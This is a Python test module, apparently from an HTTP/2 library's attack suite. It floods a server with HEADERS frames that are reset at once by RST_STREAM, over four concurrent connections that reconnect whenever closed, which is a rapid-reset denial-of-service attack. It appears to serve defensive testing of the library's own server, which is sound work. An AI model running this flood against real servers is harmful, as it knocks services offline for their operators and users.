"""Calls that are reset at once, on a new connection whenever the server has closed one."""

from __future__ import annotations

import trio

from meshtrio.http2 import frames
from meshtrio.http2.errors import ErrorCode
from tests.attacks import raw

CONCURRENT_CONNECTIONS = 4
BATCH_SIZE = 200
BATCHES = 10
"""Of one connection: more than a server allows one."""


async def run(address: str, seconds: float) -> None:
    """Open and reset for `seconds`."""
    block = raw.encode_request_headers(f"/{raw.SERVICE}/Slow")
    lots = []
    for lot in range(BATCHES):
        ids = range(1 + 2 * lot * BATCH_SIZE, 1 + 2 * (lot + 1) * BATCH_SIZE, 2)
        parts = [raw.headers_frames(n, block) + frames.rst_stream(n, ErrorCode.CANCEL) for n in ids]
        lots.append(b"".join(parts))
    with trio.move_on_after(seconds):
        await raw.run_concurrently(CONCURRENT_CONNECTIONS, _reset_repeatedly, address, lots)


async def _reset_repeatedly(address: str, lots: list[bytes]) -> None:
    while True:
        try:
            async with raw.connect_raw(address) as connection:
                for lot in lots:
                    await connection.send(lot)
        except* OSError:
            pass
        await trio.lowlevel.checkpoint()
